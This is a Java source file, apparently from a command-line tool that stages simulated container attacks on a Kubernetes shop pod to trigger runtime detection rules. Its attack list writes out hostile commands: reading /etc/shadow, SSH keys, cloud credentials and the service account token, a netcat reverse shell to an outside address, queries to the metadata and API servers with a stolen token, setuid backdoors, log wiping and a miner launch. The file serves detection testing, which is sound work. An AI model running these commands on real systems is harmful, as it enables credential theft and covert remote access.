package io.nightjar.cli.attack;

import io.nightjar.cli.attack.Act.Payload;
import io.nightjar.cli.attack.Act.Run;
import io.nightjar.cli.attack.Act.Terminal;
import java.util.List;
import java.util.Optional;

/** Every attack that can be played. */
final class Attacks {

  private static final String CHECKOUT = "shop/checkout";
  private static final String TOOLBOX = "ops/debug-toolbox";
  private static final String API_SERVER = ServiceNetwork.API_SERVER_ADDRESS;
  private static final String TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token";

  private static final List<Attack> ALL =
      List.of(
          of(
              "shell-in-container",
              "Somebody opens a shell with a terminal in the container and looks around.",
              List.of("Terminal shell in container"),
              new Terminal(
                  "opens a shell on a terminal", List.of("id", "hostname", "ls /", "ps", "env"))),
          of(
              "read-sensitive-file",
              "A program that has no business with passwords reads their hashes.",
              List.of("Read sensitive file untrusted"),
              run("reads the password hashes", "cat", "/etc/shadow")),
          of(
              "credential-hunt",
              "An intruder goes through every place where secrets usually lie.",
              List.of("Read sensitive file untrusted", "Service account token read in container"),
              run("reads the password hashes", "cat", "/etc/shadow"),
              run("reads who may become root", "cat", "/etc/sudoers"),
              run("reads a private key", "cat", "/root/.ssh/id_ed25519"),
              run("reads the keys of the cloud", "cat", "/root/.aws/credentials"),
              run("reads the way to a cluster", "cat", "/root/.kube/config"),
              run("reads the password of a database", "cat", "/root/.pgpass"),
              run("reads the pod's own token", "cat", TOKEN)),
          of(
              "write-below-bin",
              "An implant is hidden among the system's programs.",
              List.of("Write below binary directory in container"),
              shell("puts a program beside the system's own", "echo '#!/bin/sh' > /bin/kworkerd")),
          of(
              "cron-job",
              "An intruder makes sure to come back.",
              List.of("Start-up file written in container"),
              shell(
                  "leaves a job that is run every minute",
                  "echo '* * * * * root /bin/true' > /etc/cron.d/update")),
          of(
              "chmod-setuid",
              "A back door is left that makes anybody root.",
              List.of("Setuid bit set in container"),
              run("copies the shell", "cp", "/bin/busybox", "/tmp/rootsh"),
              run("makes the copy set-user-id", "chmod", "u+s", "/tmp/rootsh")),
          of(
              "symlink-over-sensitive-file",
              "A link gives the password file an innocent name.",
              List.of("Link over sensitive file in container"),
              run("links to the password hashes", "ln", "-s", "/etc/shadow", "/tmp/notes.txt")),
          of(
              "clear-logs",
              "The traces of the break-in are wiped.",
              List.of("Log file cleared in container"),
              shell("empties the log of logins", ": > /var/log/auth.log")),
          of(
              "package-manager",
              "Tools are installed into a running container.",
              List.of("Package manager in container"),
              run("installs a scanner", "apt", "install", "-y", "nmap")),
          of(
              "recon-tool",
              "The neighbourhood is scanned for the next victim.",
              List.of("Reconnaissance tool in container"),
              run("scans the pod network", "nmap", "-sS", "10.244.0.0/24")),
          of(
              "netcat-shell",
              "A shell is offered to whoever waits outside.",
              List.of("Netcat remote shell in container"),
              run(
                  "connects back and hands over a shell",
                  "nc",
                  "-w",
                  "2",
                  ServiceNetwork.OUTSIDE_ADDRESS,
                  "4444",
                  "-e",
                  "/bin/sh")),
          of(
              "metadata-service",
              "The cloud is asked for the credentials of the node.",
              List.of("Cloud metadata service contacted from container"),
              shell(
                  "asks the metadata service",
                  "printf 'GET /latest/meta-data/iam/ HTTP/1.0\\r\\n\\r\\n' | /bin/nc -w 2 "
                      + ServiceNetwork.METADATA_ADDRESS
                      + " 80")),
          of(
              "connect-api-server",
              "A stolen service account token is tried on the API server.",
              List.of(
                  "Service account token read in container",
                  "Contact K8S API Server From Container"),
              shell(
                  "asks the API server for secrets",
                  "read -r token < "
                      + TOKEN
                      + "; printf 'GET /api/v1/secrets HTTP/1.0\\r\\nAuthorization: Bearer %s\\r\\n"
                      + "\\r\\n' \"$token\" | /bin/nc -w 2 "
                      + API_SERVER
                      + " 443")),
          new Attack(
              "namespace-change",
              "From a privileged container the way out to the node is tried.",
              List.of(
                  "Host namespaces entered from container",
                  "Change of namespace in container",
                  "New namespace made in container"),
              TOOLBOX,
              true,
              List.of(
                  run("moves into other namespaces", "nsenter", "-t", "1", "-m", "-u", "id"),
                  run("makes a mount namespace", "unshare", "-m", "id"))),
          of(
              "drop-and-run",
              "A program is dropped into a temporary folder, made executable and started.",
              List.of(
                  "Write below a temporary directory",
                  "File made executable",
                  "Execution from a temporary directory"),
              run("drops a program", "cp", "/bin/busybox", "/tmp/busybox-update"),
              run("makes it executable", "chmod", "755", "/tmp/busybox-update"),
              run("runs it", "/tmp/busybox-update", "id")),
          of(
              "implant",
              "A program that is not part of the image is brought in and stays.",
              List.of("Drop and execute new binary in container"),
              run("brings a program in", "cp", "/bin/busybox", "/opt/busybox-agent"),
              new Payload("starts it", List.of("/opt/busybox-agent", "sleep", "600"))),
          of(
              "mutate-coreutils",
              "A system program is moved away to be replaced by one that hides things.",
              List.of("System binary replaced in container"),
              run("moves ls away", "mv", "/bin/ls", "/bin/ls.orig")),
          of(
              "ssh-client",
              "From the container the intruder moves on to another machine.",
              List.of("SSH program in container"),
              run("logs in next door", "ssh", "root@" + ServiceNetwork.OUTSIDE_ADDRESS)),
          of(
              "miner",
              "A coin miner is started and keeps its workers running.",
              List.of("Detect crypto miners using the Stratum protocol"),
              new Payload(
                  "starts a miner",
                  List.of("/usr/local/bin/xmrig", "-o", "stratum+tcp://pool.invalid:3333"))));

  private Attacks() {}

  static List<Attack> all() {
    return ALL;
  }

  static Optional<Attack> find(String name) {
    return ALL.stream().filter(attack -> attack.name().equals(name)).findFirst();
  }

  private static Attack of(String name, String story, List<String> raises, Act... acts) {
    return new Attack(name, story, raises, CHECKOUT, false, List.of(acts));
  }

  private static Run run(String says, String... command) {
    return new Run(says, List.of(command));
  }

  private static Run shell(String says, String script) {
    return new Run(says, List.of("sh", "-c", script));
  }
}
